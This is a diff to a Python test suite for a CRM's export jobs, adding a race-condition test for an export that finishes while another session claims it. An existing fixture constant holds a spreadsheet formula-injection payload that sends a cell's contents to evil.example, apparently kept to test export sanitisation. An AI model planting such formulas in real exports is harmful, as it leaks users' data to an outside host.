@@ -5,6 +5,7 @@ import csv
 import io
 import sys
 from datetime import datetime, timedelta
+from functools import partial
 from pathlib import Path
 from typing import Any
 from zipfile import ZipFile
@@ -32,6 +33,7 @@ from crm_core.storage.tables import Contact, Event, Lead, OutboxRow, Staff
 from crm_core.subprocesses import NoResult
 from tests.domain.statistics.test_statistics import NOON, Books
 from tests.support.forks import ROOT
+from tests.support.interleaving import interleave
 
 MOSCOW = "Europe/Moscow"
 BOMB = '=HYPERLINK("https://evil.example/?x="&A1;"открой")'
@@ -525,6 +527,24 @@ async def test_failed_export_is_put_back_and_claimed_again(db: Database) -> None
     await db.write(jobs.put_back, job=again)  # late: another session has it
     assert other is not None
     assert await db.read(jobs.is_wanted, job=other)
+
+
+@pytest.mark.fault("F104")
+@pytest.mark.parametrize("boundary", [1, 2])
+async def test_export_that_ends_while_it_is_claimed_stays_ended(db: Database, boundary: int) -> None:
+    """The session that made it records its end in the moment in which the next session looks for unfinished ones."""
+    await db.write(admins)
+    await db.write(asked)
+    job = await db.write(jobs.claim, bot_id=BOT, fencing_token=3)
+    assert job is not None
+    ends = {"job": job, "state": "done", "outcome": "1 rows", "payload": {"text": "done"}, "now": NOON}
+    outcome = await interleave(
+        db, partial(jobs.claim, bot_id=BOT, fencing_token=4), partial(jobs.finish, **ends), at=boundary
+    )
+    is_claimed = outcome.results[0] is not None
+    assert await db.read(jobs.is_under_way, asked_by=5, now=NOON) is is_claimed
+    told = await db.read(lambda s: s.execute(select(OutboxRow.chat_id)).all())
+    assert bool(told) is not is_claimed
 
 
 @pytest.mark.fault("F104")
